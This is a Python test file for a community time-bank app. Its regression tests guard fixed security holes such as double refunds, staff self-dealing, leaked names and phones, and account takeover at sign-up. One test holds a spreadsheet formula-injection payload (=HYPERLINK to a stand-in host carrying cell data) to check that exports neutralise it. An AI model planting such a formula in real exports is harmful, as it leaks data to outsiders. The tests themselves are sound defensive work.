"""The holes a second attacker found (issue 20), each with the test that now guards it.
The races among them are in test_checks_under_lock.py."""

from __future__ import annotations

import pytest

from tests import factories
from tests.merchants_factories import code_of, create_merchant, create_offer, fund, key
from timebank.extensions import db
from timebank.ledger import operations as ledger


@pytest.fixture
def shop(app, district, make_member, token_for):
    """上坎社区: two organizers, a shop with its owner at the counter, an offer of 30
    points, and a volunteer with 30 points."""
    organizers = [make_member(district["a"], roles=("organizer",)) for _ in range(2)]
    merchant = create_merchant(district["a"], organizer=organizers[0])
    offer = create_offer(merchant, points_cost=30)
    volunteer = make_member(district["building_a"], name="王秀英")
    fund(volunteer, 30)
    db.session.commit()
    return {
        "d": district,
        "merchant": merchant,
        "offer": offer,
        "volunteer": volunteer,
        "owner": token_for(merchant.owner),
        "organizers": [token_for(o) for o in organizers],
        "volunteer_h": token_for(volunteer),
    }


def _redeem(client, s, member=None) -> dict:
    member = member or s["volunteer"]
    body = {"code": code_of(member), "offer_id": s["offer"].id, "idempotency_key": key()}
    held = client.post("/api/v1/redemptions", json=body, headers=s["owner"])
    assert held.status_code == 201, held.json
    confirmed = client.post(f"/api/v1/redemptions/{held.json['id']}/confirm", headers=s["owner"])
    assert confirmed.status_code == 200, confirmed.json
    return confirmed.json


def _said(response) -> str:
    """The answer's JSON as a person reads it (JSON escapes Chinese as \\uXXXX)."""
    import json

    return json.dumps(response.get_json(), ensure_ascii=False)


def _points(client, headers) -> int:
    return client.get("/api/v1/me/balances", headers=headers).json["POINTS"]


# ---------------------------------------------------------------- hole 2


def test_a_corrected_redemption_is_not_refunded_again(client, shop):
    """An organizer gives the 30 points back by a correction (a second organizer approves);
    the shop's refund of the same redemption then finds no room left: 409, and the
    member has 30 points, not 60."""
    s = shop
    neighbour = factories.create_member(s["d"]["building_a"])
    fund(neighbour, 30)
    db.session.commit()
    _redeem(client, s, neighbour)  # the shop holds more than this one redemption
    redemption = _redeem(client, s)
    assert _points(client, s["volunteer_h"]) == 0
    body = {
        "kind": "correct", "corrects_transfer_id": redemption["transfer_id"], "amount": 30,
        "memo": "店里没货，退回积分", "idempotency_key": "fix-1",
    }  # fmt: skip
    asked = client.post("/api/v1/transfers", json=body, headers=s["organizers"][0])
    assert asked.status_code == 202, asked.json
    pending_id = asked.json["pending_credit"]["id"]
    approved = client.post(
        f"/api/v1/pending-credits/{pending_id}/approve", headers=s["organizers"][1]
    )
    assert approved.status_code == 200, approved.json
    assert _points(client, s["volunteer_h"]) == 30
    refund = client.post(
        f"/api/v1/redemptions/{redemption['id']}/refund", json={}, headers=s["owner"]
    )
    assert refund.status_code == 409, refund.json
    assert refund.json["code"] == "correction_exceeds_original"
    assert _points(client, s["volunteer_h"]) == 30
    assert ledger.verify_ledger().ok


def test_a_refunded_redemption_is_not_corrected_again(client, shop):
    """The other order: once the shop refunded, a correction of the same redeem transfer
    has no room left (409), whichever path asks."""
    s = shop
    redemption = _redeem(client, s)
    refund = client.post(
        f"/api/v1/redemptions/{redemption['id']}/refund", json={}, headers=s["owner"]
    )
    assert refund.status_code == 200, refund.json
    body = {
        "kind": "correct", "corrects_transfer_id": redemption["transfer_id"], "amount": 1,
        "memo": "再退一次", "idempotency_key": "fix-2",
    }  # fmt: skip
    asked = client.post("/api/v1/transfers", json=body, headers=s["organizers"][0])
    assert asked.status_code == 409 and asked.json["code"] == "correction_exceeds_original"
    assert _points(client, s["volunteer_h"]) == 30


# ---------------------------------------------------------------- hole 3


def test_staff_do_not_redeem_their_own_points_or_their_wards(client, shop, make_member, token_for):
    """The owner shows their own code at their own counter, or, as a guardian, their
    ward's: refused (403 ``staff_self_dealing``), nothing held, nothing paid to the shop."""
    from timebank.people import operations as people

    s = shop
    owner = s["merchant"].owner
    ward = make_member(s["d"]["building_a"], password=None, has_smartphone=False)
    people.add_guardian(ward, owner, relation="儿子", actor=None)
    for member in (owner, ward):
        fund(member, 30)
    db.session.commit()
    for member in (owner, ward):
        body = {"code": code_of(member), "offer_id": s["offer"].id, "idempotency_key": key()}
        held = client.post("/api/v1/redemptions", json=body, headers=s["owner"])
        assert held.status_code == 403, held.json
        assert held.json["code"] == "staff_self_dealing"
    assert ledger.balances(owner.id)["POINTS"]["available"] == 30
    assert ledger.balances(ward.id)["POINTS"]["available"] == 30
    # a customer is still served
    assert _redeem(client, s)["status"] == "confirmed"


# ---------------------------------------------------------------- hole 4


def test_a_pending_shop_hands_out_no_staff_roles_and_names_nobody(
    client, district, make_member, token_for
):
    """A volunteer applies for a shop; while it is pending, inviting staff by phone is
    refused (409) the same way for a member's phone and an unknown one: no role, no
    name, no id, no message."""
    applicant = make_member(district["building_a"])
    target = make_member(district["building_b"], name="罗桂英")
    merchant = create_merchant(district["a"], owner=applicant, approved=False)
    db.session.commit()
    h = token_for(applicant)
    answers = [
        client.post(f"/api/v1/merchants/{merchant.id}/staff", json={"phone": p}, headers=h)
        for p in (target.phone, "13612345678")
    ]
    for answer in answers:
        assert answer.status_code == 409, answer.json
        assert answer.json["code"] == "merchant_not_approved"
        assert "罗桂英" not in _said(answer)
        assert str(target.id) not in answer.json.get("detail", "")
    db.session.expire_all()
    assert [r.role for r in target.roles] == ["volunteer"]


def test_staff_are_invited_masked_and_hold_the_role_only_once_they_accept(
    client, shop, make_member, token_for
):
    s = shop
    clerk = make_member(s["d"]["building_b"], name="罗桂英")
    h = token_for(clerk)
    url = f"/api/v1/merchants/{s['merchant'].id}/staff"
    known = client.post(url, json={"phone": clerk.phone}, headers=s["owner"])
    unknown = client.post(url, json={"phone": "13612345678"}, headers=s["owner"])
    assert known.status_code == unknown.status_code == 202, (known.json, unknown.json)
    assert set(known.json) == set(unknown.json) == {"phone", "status"}
    assert known.json == {"phone": f"{clerk.phone[:3]}****{clerk.phone[-4:]}", "status": "invited"}
    assert unknown.json == {"phone": "136****5678", "status": "invited"}
    assert "罗桂英" not in _said(known)
    counter = f"/api/v1/merchants/{s['merchant'].id}/redemptions"
    assert client.get(counter, headers=h).status_code == 403  # not staff yet
    invitations = client.get("/api/v1/me/staff-invitations", headers=h).json
    assert [i["merchant_name"] for i in invitations] == [s["merchant"].name]
    inbox = client.get("/api/v1/me/notifications", headers=h).json["items"]
    assert inbox and s["merchant"].name in inbox[0]["title"] + inbox[0]["body"]
    accepted = client.post(f"/api/v1/staff-invitations/{invitations[0]['id']}/accept", headers=h)
    assert accepted.status_code == 200 and accepted.json["status"] == "accepted"
    assert client.get(counter, headers=h).status_code == 200
    staff = client.get(url, headers=s["owner"]).json
    assert "罗*" + "*" in [m["name"] for m in staff]  # the shop sees its staff masked
    # an invitation is answered once, and only by the one invited
    again = client.post(f"/api/v1/staff-invitations/{invitations[0]['id']}/accept", headers=h)
    assert again.status_code == 409
    other = client.post(
        f"/api/v1/staff-invitations/{invitations[0]['id']}/decline", headers=s["volunteer_h"]
    )
    assert other.status_code == 403


# ---------------------------------------------------------------- hole 11


def test_nobody_takes_their_own_small_wish_nor_their_wards(
    client, district, make_member, token_for
):
    """A resident takes their own wish (and would be credited 8 hours for it): refused,
    as is their guardian; a neighbour may take it."""
    from tests.projects_factories import file_need
    from timebank.people import operations as people

    resident = make_member(district["building_a"], name="罗桂英")
    guardian = make_member(district["building_a"])
    ward = make_member(district["building_a"], password=None, has_smartphone=False)
    people.add_guardian(ward, guardian, relation="女儿", actor=None)
    own = file_need(resident, is_wish=True, title="帮我买药")
    wards = file_need(ward, filed_by=guardian, is_wish=True, title="陪同看病")
    neighbour = make_member(district["building_a"])
    db.session.commit()
    refusals = [
        client.post(f"/api/v1/needs/{own.id}/take", headers=token_for(resident)),
        client.post(f"/api/v1/needs/{wards.id}/take", headers=token_for(guardian)),
        client.post(
            f"/api/v1/needs/{wards.id}/take",
            headers={**token_for(guardian), "X-On-Behalf-Of": str(ward.id)},
        ),
    ]
    for refused in refusals:
        assert refused.status_code == 403, refused.json
        assert refused.json["code"] == "own_wish"
    taken = client.post(f"/api/v1/needs/{own.id}/take", headers=token_for(neighbour))
    assert taken.status_code == 200 and taken.json["status"] == "accepted"


# ---------------------------------------------------------------- holes 5 and 6


def _statement_after_a_redemption(client, shop, name: str):
    from timebank.core.clock import utcnow
    from timebank.merchants import operations as merchants

    s = shop
    merchants.update_merchant(s["merchant"], actor=s["merchant"].owner, name=name)
    db.session.commit()
    _redeem(client, s)
    statement = merchants.build_statement(s["merchant"], merchants.current_month(utcnow()))
    db.session.commit()
    return statement


HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def test_exports_carry_no_formula_and_numbers_stay_numbers(client, shop, login, make_member):
    """A shop renamed ``=HYPERLINK(...)``: the organizers' settlement XLSX and CSV and the
    statement's carry it as text, never a formula; points and yuan are numbers."""
    import csv
    import io

    from openpyxl import load_workbook

    s = shop
    statement = _statement_after_a_redemption(client, s, HOSTILE)
    organizer = make_member(s["d"]["a"], roles=("organizer",))
    login(organizer)
    month = statement.month
    unit = s["d"]["a"].id
    for url in (f"/units/{unit}/settlement.xlsx?month={month}", f"/statements/{statement.id}.xlsx"):
        book = load_workbook(io.BytesIO(client.get(url).data))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        assert any(c.value == "'" + HOSTILE for c in cells), url
        row = [c.value for c in next(book.worksheets[0].iter_rows(min_row=2, max_row=2))]
        assert row[6] == 30 and row[8] == 3, row  # points owed, yuan owed: numbers
    for url in (f"/units/{unit}/settlement.csv?month={month}", f"/statements/{statement.id}.csv"):
        text = client.get(url).get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        assert not [v for row in rows for v in row if v.startswith(("=", "+", "@"))], url


def test_the_audit_csv_goes_through_the_one_writer():
    """No export writes CSV or XLSX but core/exports.py: the old writers are gone."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parents[2] / "timebank"
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "core"
        for text in [path.read_text()]
        if "csv.writer(" in text or "Workbook(" in text
    ]
    assert writers == []


def test_shops_see_their_customers_masked_on_statements(client, shop, login):
    """The counter masks customers' names, and so do the shop's statement page and its
    CSV and XLSX: 王** , never 王秀英."""
    s = shop
    statement = _statement_after_a_redemption(client, s, "上坎老王肉菜店")
    login(s["merchant"].owner)
    page = client.get(f"/statements/{statement.id}").get_data(as_text=True)
    assert "王**" in page and "王秀英" not in page
    for fmt in ("csv", "xlsx"):
        body = client.get(f"/statements/{statement.id}.{fmt}")
        assert body.status_code == 200
        raw = body.data if fmt == "xlsx" else body.get_data(as_text=True).encode()
        if fmt == "xlsx":
            import io

            from openpyxl import load_workbook

            book = load_workbook(io.BytesIO(raw))
            values = [str(c.value) for ws in book.worksheets for r in ws.iter_rows() for c in r]
            assert "王**" in values and "王秀英" not in values
        else:
            assert "王**".encode() in raw and "王秀英".encode() not in raw


# ---------------------------------------------------------------- hole 7


def test_a_refusal_names_nobody_the_caller_may_not_see(client, district, make_member, token_for):
    """Any member sends ``member_id`` of someone in another community with hours on a
    project: refused, and the answer does not say 罗桂英 (a masked 罗** at most)."""
    from tests.projects_factories import T0, running_project

    organizer = make_member(district["a"], roles=("organizer",))
    caller = make_member(district["building_a"])
    stranger = make_member(district["building_b"], name="罗桂英")
    serving = make_member(district["building_b"], name="罗桂英")  # on the project, no org
    project = running_project(district["a"], organizer, members=[caller, serving], places=5)
    db.session.commit()
    for member in (stranger, serving):
        body = {
            "project_id": project.id, "member_id": member.id, "served_on": T0.date().isoformat(),
            "minutes": 60, "description": "打扫",
        }  # fmt: skip
        refused = client.post("/api/v1/hour-logs", json=body, headers=token_for(caller))
        assert 400 <= refused.status_code < 500, refused.json
        assert "罗桂英" not in _said(refused), refused.json
    # an organizer who manages the member's home still reads the whole name
    other = make_member(district["b"], roles=("organizer",))
    body = {"project_id": project.id, "member_id": stranger.id, "served_on": T0.date().isoformat(),
            "minutes": 60, "description": "打扫"}  # fmt: skip
    told = client.post("/api/v1/hour-logs", json=body, headers=token_for(other))
    assert "罗桂英" in _said(told), told.json


# ---------------------------------------------------------------- hole 8


def test_removal_leaves_no_copy_of_the_name_or_phone_behind(
    client, district, make_member, token_for
):
    """A resident filed a need (its contact their name and phone), owns a shop (its
    contact too), and is named in a neighbour's inbox. After removal, organizers read
    neither the name nor the phone anywhere but the append-only records."""
    import sqlalchemy as sa

    from tests.projects_factories import file_need
    from timebank.inbox import operations as inbox
    from timebank.inbox.models import Notification
    from timebank.merchants.models import Merchant
    from timebank.projects.models import Need

    organizer = make_member(district["a"], roles=("organizer",))
    resident = make_member(district["building_a"], name="罗桂英", phone="13911112222")
    need = file_need(resident, title="楼道灯坏了", description="罗桂英家门口，电话13911112222")
    merchant = create_merchant(district["a"], owner=resident, organizer=organizer,
                               contact_name="罗桂英", contact_phone="13911112222")  # fmt: skip
    neighbour = make_member(district["building_a"])
    inbox.notify(neighbour, "project_assigned", key="t-1", params={
        "title": "送餐", "starts": "2026-03-14 09:00", "organizer": "罗桂英"})  # fmt: skip
    db.session.commit()
    assert (
        client.get(f"/api/v1/needs/{need.id}", headers=token_for(organizer)).json["contact_phone"]
        == "13911112222"
    )
    removed = client.delete(f"/api/v1/members/{resident.id}", headers=token_for(organizer))
    assert removed.status_code == 200, removed.json
    db.session.expire_all()
    seen = client.get(f"/api/v1/needs/{need.id}", headers=token_for(organizer)).json
    texts = [
        *db.session.execute(sa.select(Need.contact_name, Need.contact_phone, Need.description)
                            .where(Need.id == need.id)).one(),
        *db.session.execute(sa.select(Merchant.contact_name, Merchant.contact_phone)
                            .where(Merchant.id == merchant.id)).one(),
        *db.session.scalars(sa.select(Notification.body)),
        *db.session.scalars(sa.select(Notification.title)),
        _said_json(seen),
    ]  # fmt: skip
    assert not [t for t in texts if t and ("罗桂英" in t or "13911112222" in t)], texts


def _said_json(data) -> str:
    import json

    return json.dumps(data, ensure_ascii=False)


# ---------------------------------------------------------------- hole 9


def test_my_data_shows_other_people_by_id_and_role_only(client, district, make_member, token_for):
    """An organizer corrected the member's record from their own address: the member's
    download has that audit row, with the organizer's id and role, not their address;
    the member's own acts keep the member's address."""
    from timebank.core.audit import record_audit

    organizer = make_member(district["a"], roles=("organizer",))
    resident = make_member(district["building_a"], name="王秀英")
    app = client.application
    for actor, address in ((organizer, "203.0.113.7"), (resident, "198.51.100.9")):
        with app.test_request_context(method="POST", environ_base={"REMOTE_ADDR": address}):
            record_audit("member.edit", actor=actor, subject=resident, detail="电话改正")
            db.session.commit()
    data = client.get("/api/v1/me/export", headers=token_for(resident)).get_json()
    theirs = [row for row in data["audit"] if row["actor_id"] == organizer.id]
    mine = [row for row in data["audit"] if row["actor_id"] == resident.id]
    assert theirs and mine
    assert all(row["ip"] is None and row["actor_role"] == "organizer" for row in theirs), theirs
    assert "203.0.113.7" not in _said_json(data)
    assert [row["ip"] for row in mine] == ["198.51.100.9"] and mine[0]["actor_role"] == "self"


# ---------------------------------------------------------------- hole 10


def test_an_organizer_decides_no_credit_that_pays_their_ward(
    client, district, make_member, token_for
):
    """The organizer who is the ward's guardian is refused (four_eyes) for the ward's
    attendance and hour logs, as for a manual credit; another organizer approves them."""
    from datetime import timedelta

    from tests.activities_factories import check_in, create_activity
    from tests.projects_factories import T0, running_project
    from timebank.core.clock import utcnow
    from timebank.people import operations as people
    from timebank.projects import operations as projects

    guardian = make_member(district["a"], roles=("organizer",))
    other = make_member(district["a"], roles=("organizer",))
    ward = make_member(district["building_a"], password=None, has_smartphone=False)
    people.add_guardian(ward, guardian, relation="女儿", actor=None)
    now = utcnow()
    activity = create_activity(district["a"], organizer=other, starts_at=now - timedelta(hours=3))
    attendance = check_in(ward, activity, at=now - timedelta(hours=3))
    attendance.checked_out_at = now - timedelta(hours=1)
    project = running_project(district["a"], other, members=[ward])
    log = projects.log_hours(
        member=ward, logged_by=ward, project=project, minutes=60, served_on=T0.date(),
        description="送餐", now=T0 + timedelta(hours=3),
    )  # fmt: skip
    db.session.commit()
    approve = f"/api/v1/activities/{activity.id}/attendance/approve"
    by_guardian = client.post(approve, json={"ids": [attendance.id]}, headers=token_for(guardian))
    assert by_guardian.json["decided"] == [], by_guardian.json
    assert by_guardian.json["refused"][0]["code"] == "four_eyes"
    hours = client.post("/api/v1/hour-logs/approve", json={"ids": [log.id]},
                        headers=token_for(guardian))  # fmt: skip
    assert hours.json["decided"] == [] and hours.json["refused"][0]["code"] == "four_eyes"
    assert ledger.balances(ward.id)["HOURS"]["balance"] == 0
    by_other = client.post(approve, json={"ids": [attendance.id]}, headers=token_for(other))
    assert by_other.json["decided"][0]["status"] == "approved", by_other.json


# ---------------------------------------------------------------- hole 12


def test_a_replaced_photo_is_deleted_and_uploads_are_throttled(
    app, client, district, make_member, token_for, tmp_path
):
    """Each new photo of a waiting hour log replaces the file of the one before (after the
    commit); a member who keeps uploading is slowed down (429) before the disk fills."""
    from datetime import timedelta

    from tests.projects_factories import PNG, T0, running_project
    from timebank.projects import operations as projects

    app.config["TIMEBANK_PHOTO_DIR"] = str(tmp_path / "photos")
    organizer = make_member(district["a"], roles=("organizer",))
    volunteer = make_member(district["building_a"])
    project = running_project(district["a"], organizer, members=[volunteer])
    log = projects.log_hours(
        member=volunteer, logged_by=volunteer, project=project, minutes=60, served_on=T0.date(),
        description="送餐", now=T0 + timedelta(hours=3),
    )  # fmt: skip
    db.session.commit()
    h = token_for(volunteer)
    statuses = []
    for n in range(12):
        photo = PNG + bytes([n]) * 1024
        answer = client.post(f"/api/v1/hour-logs/{log.id}/photo", headers=h,
                             data={"file": (__import__("io").BytesIO(photo), "p.png")})  # fmt: skip
        statuses.append(answer.status_code)
        files = [p for p in (tmp_path / "photos").iterdir() if not p.name.startswith(".")]
        assert len(files) == 1, (n, files)
    assert statuses[:5] == [200] * 5, statuses
    assert 429 in statuses, statuses


# ---------------------------------------------------------------- hole 13


def test_audit_search_answers_far_dates_with_422(client, district, make_member, token_for, login):
    admin = make_member(district["street"], roles=("admin",))
    h = token_for(admin)
    for edge in ("to=9999-12-31", "from=0001-01-01"):
        for url in (f"/api/v1/audit?{edge}", f"/api/v1/audit.csv?{edge}"):
            answer = client.get(url, headers=h)
            assert answer.status_code == 422, (url, answer.status_code)
    login(admin)
    for edge in ("to=9999-12-31", "from=0001-01-01"):
        page = client.get(f"/admin/audit?{edge}")
        assert page.status_code in (200, 422), page.status_code
        assert "Something went wrong" not in page.get_data(as_text=True)


# ---------------------------------------------------------------- hole 15


def test_whoever_proves_the_phone_chooses_the_password(app, client, district, make_member):
    """A resident joins; a stranger holding the public poster joins with the same phone.
    The second join only sends the pending registration's code again and changes
    nothing; the resident types the newest code and chooses their password then. After
    approval the resident's password logs in (201) and no stranger's does (401)."""
    from tests import sms
    from timebank.people import operations as people

    app.config["TIMEBANK_SMS_ADAPTER"] = "tests.sms:CaptureSms"
    organizer = make_member(district["a"], roles=("organizer",))
    link = people.renew_join_link(district["a"].id, actor=organizer)
    db.session.commit()
    phone = "13655550001"
    first = client.post("/api/v1/join", json={"code": link.code, "phone": phone, "name": "王秀英"})
    second = client.post("/api/v1/join", json={"code": link.code, "phone": phone, "name": "冒名者"})
    assert first.status_code == second.status_code == 202, (first.json, second.json)
    assert first.json == second.json  # the same answer: nothing about who registered
    assert "冒名者" not in sms.SENT[-1][1] and "王秀英" in sms.SENT[-1][1]
    member = people.find_member_by_phone(phone)
    assert member.name == "王秀英" and member.password_hash is None
    newest = sms.last_code(phone)
    answer = {"phone": phone, "code": newest, "password": "resident-pass-1"}
    verified = client.post("/api/v1/join/verify", json=answer)
    assert verified.status_code == 200, verified.json
    people.approve_member(people.find_member_by_phone(phone), actor=organizer)
    db.session.commit()
    resident = client.post(
        "/api/v1/auth/token", json={"phone": phone, "password": "resident-pass-1"}
    )
    assert resident.status_code == 201, resident.json
    for password in ("stranger-pass-2", ""):
        stranger = client.post("/api/v1/auth/token", json={"phone": phone, "password": password})
        assert stranger.status_code in (401, 422), stranger.json


# ---------------------------------------------------------------- hole 14


def test_the_api_refuses_the_donations_the_page_refuses(client, district, make_member, token_for):
    """One use case (ledger.donate) for the page and the API: another community's pool and
    a building's pool are refused by both (422), one's own community's accepted."""
    from tests.merchants_factories import fund

    volunteer = make_member(district["building_a"])
    fund(volunteer, 0, minutes=120)
    db.session.commit()
    h = token_for(volunteer)

    def donate(unit, key):
        body = {"kind": "donate", "amount": 10, "pool_unit_id": unit.id, "idempotency_key": key}
        return client.post("/api/v1/transfers", json=body, headers=h)

    for n, unit in enumerate((district["b"], district["building_a"])):
        refused = donate(unit, f"pool-{n}")
        assert refused.status_code == 422, refused.json
        assert "pool_unit_id" in refused.json["errors"]
    assert donate(district["a"], "pool-ok").status_code == 201
    assert ledger.balances(volunteer.id)["HOURS"]["balance"] == 110


def test_the_cli_runs_jobs_only_through_jobs_run(app):
    """`ledger expire-points`, `ledger expire-holds` and `merchants expire-redemptions` are
    aliases of `jobs run`: each run is recorded, and the hold job expires redemptions too."""
    import sqlalchemy as sa

    from timebank.scheduling.models import JobRun

    runner = app.test_cli_runner()
    for args, job in (
        (["ledger", "expire-points"], "expire-points"),
        (["ledger", "expire-holds"], "release-holds"),
        (["merchants", "expire-redemptions"], "release-holds"),
    ):
        before = db.session.scalar(sa.select(sa.func.count()).where(JobRun.job == job))
        result = runner.invoke(args=args)
        assert result.exit_code == 0, result.output
        db.session.expire_all()
        after = db.session.scalar(sa.select(sa.func.count()).where(JobRun.job == job))
        assert after == before + 1 or "nothing was due" in result.output, (args, result.output)


def test_a_token_is_not_issued_once_the_sessions_were_ended_meanwhile(app, district, make_member):
    """A login checks the password before the write lock; if "log out everywhere" (or a new
    password) committed in between, the token is refused instead of outliving it."""
    import sqlalchemy as sa

    from timebank.core.errors import DomainError
    from timebank.people import operations as people
    from timebank.people.models import Member

    member = make_member(district["building_a"])
    seen = people.authenticate(member.phone, "correct-horse-1")
    db.session.execute(  # another request's log-out-everywhere, as committed meanwhile
        sa.update(Member)
        .where(Member.id == seen.id)
        .values(session_epoch=Member.session_epoch + 1)
        .execution_options(synchronize_session=False)  # this request still holds the old
    )
    with pytest.raises(DomainError) as refused:
        people.issue_token(seen)
    assert refused.value.code == "invalid_credentials"
    assert people.issue_token(people.get_member(seen.id))[0]  # a fresh login gets one
